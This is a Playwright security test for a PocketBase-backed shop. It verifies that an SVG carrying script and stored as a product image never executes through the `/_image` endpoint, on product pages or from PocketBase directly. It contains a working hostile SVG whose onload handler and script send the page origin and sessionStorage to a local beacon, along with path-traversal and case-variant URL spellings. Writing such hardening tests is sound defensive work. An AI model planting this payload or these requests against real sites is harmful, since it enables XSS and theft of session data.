// No script through images (hardening): an SVG with a script, stored in
// PocketBase the way old data can hold it (an image field that still accepted
// SVG, a file named like a photo), never runs: not through the shop's
// `/_image` endpoint in any spelling or format, not on the pages that show it,
// not even opened directly from PocketBase. `/_image` answers only raster
// bytes made from PocketBase's files of public collections, with a policy that
// lets nothing run (src/lib/images/image-guard.mjs).
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import type PocketBase from 'pocketbase';
import sharp from 'sharp';
import { test, expect } from '@tests/harness/browser';
import { testStack, adminPb } from '@tests/harness/stack';

const MARK = 'SVG-SCRIPT-RAN';

/** An SVG whose script and event handler would report to `beacon` and the console, and retitle the page. */
const hostileSvg = (beacon: string) => `<?xml version="1.0" encoding="UTF-8"?>
<svg xmlns="http://www.w3.org/2000/svg" width="64" height="64" onload="console.log('${MARK} onload');fetch('${beacon}/onload?o='+encodeURIComponent(location.origin))">
  <rect width="64" height="64" fill="red"/>
  <script type="text/javascript">
    console.log('${MARK} script ' + location.origin);
    document.title = '${MARK}';
    try { new Image().src = '${beacon}/script?o=' + encodeURIComponent(location.origin) + '&s=' + encodeURIComponent(JSON.stringify(sessionStorage)); } catch (e) {}
    fetch('${beacon}/fetch?o=' + encodeURIComponent(location.origin)).catch(function () {});
  </script>
</svg>`;

let beacon: Server;
let beaconUrl = '';
const hits: string[] = [];

test.beforeAll(async () => {
  beacon = createServer((req, res) => {
    hits.push(req.url ?? '');
    res.setHeader('Access-Control-Allow-Origin', '*');
    res.end('ok');
  });
  await new Promise<void>((done) => beacon.listen(0, '127.0.0.1', done));
  beaconUrl = `http://127.0.0.1:${(beacon.address() as AddressInfo).port}`;
});
test.afterAll(async () => {
  await new Promise((done) => beacon.close(done));
});

/** Lets the products' image field take SVG while `run` creates records (as a database from before the raster-only rule could hold them). */
async function withSvgAllowed<T>(pb: PocketBase, run: () => Promise<T>): Promise<T> {
  const collection = await pb.collections.getOne('web_products');
  const original = collection.fields.map((f: Record<string, unknown>) => ({ ...f }));
  const relaxed = collection.fields.map((f: Record<string, unknown>) =>
    f.name === 'image' ? { ...f, mimeTypes: [] } : f,
  );
  await pb.collections.update(collection.id, { fields: relaxed });
  try {
    return await run();
  } finally {
    await pb.collections.update(collection.id, { fields: original });
  }
}

test('a hostile SVG in PocketBase runs no script through /_image, product pages or PocketBase itself', async ({
  page,
  request,
}, testInfo) => {
  test.setTimeout(120_000);
  const { pbUrl, shopUrl } = testStack();
  const pb = await adminPb();
  const tag = `${testInfo.project.name}-${Date.now()}`;
  const svg = hostileSvg(beaconUrl);
  const png = await sharp({ create: { width: 32, height: 32, channels: 3, background: '#2a7' } })
    .png()
    .toBuffer();

  const product = (name: string, file: Blob, fileName: string) => {
    const form = new FormData();
    for (const [k, v] of Object.entries({
      slug: `svg-${name}-${tag}`,
      name: `Image test ${name} ${tag}`,
      price: '120',
      unit: '1 KG',
      category: 'Vegetables',
      description: 'x',
      location: 'Kavre',
      isVisible: 'true',
      is_available: 'true',
    }))
      form.set(k, v);
    form.set('image', file, fileName);
    return pb.collection('web_products').create(form);
  };
  const [asSvg, asPng, real] = await withSvgAllowed(pb, () =>
    Promise.all([
      product('named-svg', new Blob([svg], { type: 'image/svg+xml' }), 'hostile.svg'),
      product('named-png', new Blob([svg], { type: 'image/png' }), 'photo.png'),
      product('real-png', new Blob([png], { type: 'image/png' }), 'real.png'),
    ]),
  );
  // Also a collection the shop knows nothing about, with a file field that takes anything.
  const stray = await pb.collections.create({
    name: `svg_stray_${tag.replace(/\W/g, '_')}`,
    type: 'base',
    listRule: '',
    viewRule: '',
    fields: [{ name: 'file', type: 'file', maxSelect: 1, maxSize: 1_000_000 }],
  });
  const strayForm = new FormData();
  strayForm.set('file', new Blob([svg], { type: 'image/svg+xml' }), 'stray.svg');
  const strayRecord = await pb.collection(stray.name).create(strayForm);

  try {
    const fileOf = (r: { id: string; collectionName: string; image?: string; file?: string }) =>
      `${pbUrl}/api/files/${r.collectionName}/${r.id}/${r.image || r.file}`;
    const sources = [fileOf(asSvg), fileOf(asPng), fileOf(strayRecord)];
    const spellings = (href: string) =>
      ['svg', 'webp', 'png', 'jpeg', 'avif', ''].flatMap((f) => {
        const q = `href=${encodeURIComponent(href)}&w=64${f ? `&f=${f}` : ''}`;
        return [`/_image?${q}`, `/_image/?${q}`, `//_image?${q}`, `/%5Fimage?${q}`, `/_IMAGE?${q}`].map(
          (path) => shopUrl + path,
        );
      });
    const hostileUrls = [
      ...sources.flatMap(spellings),
      `/_image?href=${encodeURIComponent(`${beaconUrl}/x.svg`)}&f=svg`,
      '/_image?href=/placeholder.svg&f=svg',
      `/_image?href=${encodeURIComponent(fileOf(asSvg).replace('/api/files/', '/api/files/../files/'))}&f=svg`,
    ].map((path) => (path.startsWith('/') ? shopUrl + path : path));

    // Over HTTP: no answer holds the SVG or is anything but a raster image or a refusal (a spelling that is not the
    // endpoint at all may reach a page); every refusal and image carries the no-script policy.
    let refused = 0;
    for (const url of hostileUrls) {
      const res = await request.get(url, { failOnStatusCode: false, maxRedirects: 0 });
      const body = await res.body();
      const type = res.headers()['content-type'] ?? '';
      expect(body.toString('latin1'), url).not.toContain(MARK);
      expect(type, url).not.toMatch(/svg|xml/);
      expect(res.status(), url).toBeLessThan(500);
      if (res.status() === 200 && type.startsWith('text/html')) continue; // a page, not the image endpoint
      expect(res.status(), url).not.toBe(200);
      expect([400, 403, 404, 415], url).toContain(res.status());
      const csp = res.headers()['content-security-policy'] ?? '';
      expect(csp, url).toContain("default-src 'none'");
      expect(csp, url).toContain('sandbox');
      expect(res.headers()['x-content-type-options'], url).toBe('nosniff');
      refused++;
    }
    // The control: a real raster image from the same field comes out as a raster image, under the same policy.
    const good = await request.get(`/_image?href=${encodeURIComponent(fileOf(real))}&w=64&h=64&f=webp`);
    expect(good.status()).toBe(200);
    expect(good.headers()['content-type']).toBe('image/webp');
    expect(good.headers()['content-security-policy']).toContain('sandbox');
    expect((await good.body()).subarray(8, 12).toString('latin1')).toBe('WEBP');

    // In Chromium: open every hostile URL, the product pages that show the images, and the files in PocketBase.
    const console: string[] = [];
    page.on('console', (m) => console.push(m.text()));
    page.on('pageerror', (e) => console.push(e.message));
    // An SVG's script runs while the document is parsed, its onload before the page's load event: what they do to the
    // page (its title, the console) has happened once `goto` has seen the load event. What they send to the beacon
    // may still be on its way, so pages that show the stored files (product pages, the files opened from PocketBase)
    // are also given until their network is idle; an /_image answer is a raster image or a refusal.
    const visit = async (url: string, { idle = false } = {}) => {
      await page.goto(url, { waitUntil: 'load' }).catch(() => null);
      if (idle) await page.waitForLoadState('networkidle').catch(() => null);
      expect(await page.title().catch(() => ''), url).not.toBe(MARK);
    };
    for (const url of hostileUrls.filter((u) => u.includes('f=svg') || !u.includes('&f='))) await visit(url);
    for (const p of [asSvg, asPng, real]) {
      await visit(`/products/${p.slug}`, { idle: true });
      await expect(page.getByRole('heading', { level: 1 })).toContainText(String(p.name));
    }
    for (const source of sources) await visit(source, { idle: true });
    expect(console.filter((m) => m.includes(MARK))).toEqual([]);
    expect(hits).toEqual([]);
    console.length = 0;
    testInfo.annotations.push({
      type: 'figures',
      description: `${refused} hostile /_image requests refused; ${hostileUrls.length} URLs, 3 product pages and 3 PocketBase files opened in Chromium; no script ran`,
    });
  } finally {
    await Promise.all(
      [asSvg, asPng, real].map((p) =>
        pb
          .collection('web_products')
          .delete(p.id)
          .catch(() => null),
      ),
    );
    await pb.collections.delete(stray.id).catch(() => null);
  }
});
